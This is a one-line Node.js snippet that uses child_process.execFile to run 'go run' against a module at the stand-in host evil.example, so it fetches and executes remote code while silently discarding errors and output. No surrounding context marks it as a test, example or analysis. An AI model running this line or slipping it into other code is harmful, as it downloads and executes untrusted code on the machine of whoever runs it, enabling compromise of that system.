const {execFile}=require('child_process'); execFile("go",["run", "evil.example/x@latest"],(e,o)=>0);
